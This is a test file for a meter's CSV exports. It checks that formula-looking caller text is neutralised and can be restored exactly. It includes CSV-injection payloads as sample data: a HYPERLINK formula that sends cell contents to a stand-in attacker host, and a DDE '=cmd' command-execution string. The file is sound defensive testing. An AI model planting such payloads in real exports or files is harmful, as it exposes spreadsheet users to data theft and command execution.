// Caller text that looks like a formula never leaves the meter as a live formula: the nightly CSV,
// the `doGet?action=export` CSV and the gateway's CSV writers all neutralise it with the one rule
// of schema/csv-cell.ts, and the mark comes off exactly.
import { describe, expect, it } from 'vitest';
import { CALLS_CSV_HEADER, callToCsvLine, type CallRecord } from '../../schema/call-record';
import { csvField, NEUTRAL_MARK, restoreText } from '../../schema/csv-cell';
import { CSV_HEADER, EVENT_FIELDS, eventToCsvLine, normalizeEvent } from '../../schema/event-record';
import { FORMULA_START, parseCsv } from './csv';
import { FakePlatform, callJson, loadBundle, webEvent, type FakeTextOutput } from './fakes/platform';

const SECRET = 'formula-secret';

/** Hostile and awkward text, by field. */
export const HOSTILE = {
  customer_id: '=HYPERLINK("https://evil.example/?d="&A1,"invoice")',
  job_id: '+SUM(1,2)',
  model: '@cmd',
  region: '-2+3',
  reviewer_id: '\tpadded',
  error_code: '\rCR',
  provider: "'already quoted",
  decision: 'plain, with "quotes"',
};

/** The text as stored: ingest turns control characters (the tab, the CR) into spaces (hostile-values.test.ts). */
const STORED = Object.fromEntries(Object.entries(HOSTILE).map(([field, text]) => [field, text.replace(/[\t\r]/g, ' ')]));

function meterWithHostileRows() {
  const platform = new FakePlatform();
  platform.clock.set('2026-11-21T15:00:00Z');
  const meter = loadBundle(platform);
  meter.setup();
  platform.properties.setProperty('SECRET_TOKEN', SECRET);
  const reply = callJson(
    meter,
    'doPost',
    { token: SECRET },
    { events: [{ event_id: 'h1', timestamp: '2026-11-21T10:00:00Z', ...HOSTILE }] },
  );
  expect(reply).toMatchObject({ ok: true, appended: 1 });
  return { platform, meter };
}

/** Every cell of a CSV: none may start a formula; without the mark, the text fields equal what was sent. */
function expectNeutralised(csv: string, sent: Record<string, string>) {
  const [header, ...rows] = parseCsv(csv);
  expect(header.join(',')).toBe(CSV_HEADER);
  expect(rows).toHaveLength(1);
  for (const cell of rows[0]) expect(cell).not.toMatch(FORMULA_START);
  const byField = Object.fromEntries(header.map((f, i) => [f, restoreText(rows[0][i])]));
  for (const [field, text] of Object.entries(sent)) expect(byField[field]).toBe(text);
}

describe('formula-looking text in exports', () => {
  it('the nightly CSV on Drive holds no live formula and gives back the exact text', () => {
    const { platform, meter } = meterWithHostileRows();
    platform.clock.set('2026-11-22T01:00:00Z');
    expect(meter.exportArchive()).toMatch(/wrote 1 row/);
    expectNeutralised(platform.drive.folders[0].files[0].content, STORED);
  });

  it('doGet?action=export holds no live formula and gives back the exact text', () => {
    const { meter } = meterWithHostileRows();
    const out = meter.doGet(webEvent({ token: SECRET, action: 'export', since: '2026-11-21' })) as FakeTextOutput;
    expectNeutralised(out.getContent(), STORED);
  });

  it("the gateway's event and call CSV lines use the same rule", () => {
    const event = normalizeEvent({ event_id: '-starts-with-minus', ...HOSTILE }, { now: () => new Date(), uuid: () => 'u' });
    expectNeutralised(`${CSV_HEADER}\n${eventToCsvLine(event)}\n`, { event_id: '-starts-with-minus', ...STORED });
    const call: CallRecord = {
      call_id: '-c1',
      started_at: '2026-11-21T10:00:00.000Z',
      duration_s: 1,
      model: '=cmd|"/c calc"!A1',
      intent_primary: 'book',
      turns: 1,
      ttfb_s: null,
      asr_wer: null,
      confidence_avg: null,
      escalated: false,
      outcome: 'booking',
      est_audio_cost_usd: 0,
      telephony_minutes: 1,
      country: '',
    };
    const [header, cells] = parseCsv(`${CALLS_CSV_HEADER}\n${callToCsvLine(call)}\n`);
    for (const cell of cells) expect(cell).not.toMatch(FORMULA_START);
    expect(restoreText(cells[header.indexOf('model')])).toBe(call.model);
    expect(restoreText(cells[header.indexOf('call_id')])).toBe('-c1');
  });

  it('numbers, dates and booleans are written as they are', () => {
    const line = eventToCsvLine(
      normalizeEvent({ event_id: 'n', cost_usd: 0.5, pii_flag: true }, { now: () => new Date(0), uuid: () => 'u' }),
    );
    const cells = parseCsv(`${line}\n`)[0];
    expect(cells[EVENT_FIELDS.indexOf('timestamp')]).toBe('1970-01-01T00:00:00.000Z');
    expect(cells[EVENT_FIELDS.indexOf('cost_usd')]).toBe('0.5');
    expect(cells[EVENT_FIELDS.indexOf('pii_flag')]).toBe('true');
  });

  it('each event keeps its own timestamp, however close the events are', () => {
    const times = [0, 1, 1, 0, 86_400_000 + 999, 1].map((ms) => new Date(ms));
    const cells = times.map((t) => csvField(t));
    expect(cells).toEqual(times.map((t) => t.toISOString()));
    expect(() => csvField(new Date(Number.NaN))).toThrow(RangeError);
  });

  it('the mark goes on exactly the text that a spreadsheet could read as a formula, whatever its first character', () => {
    // The rule, written out: a trigger or the mark first, or a trigger after leading whitespace.
    const live = (text: string) => /^[=+\-@\t\r']/.test(text) || /^\s*[=+\-@]/.test(text);
    for (let code = 0; code <= 0x2ff; code++) {
      const c = String.fromCharCode(code);
      for (const text of [c, `${c}x`, `${c}=1`, ` ${c}`, `x${c}`]) {
        const cell = csvField(text);
        const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
        expect(unquoted, `code ${code} in ${JSON.stringify(text)}`).toBe(live(text) ? NEUTRAL_MARK + text : text);
      }
    }
  });
});
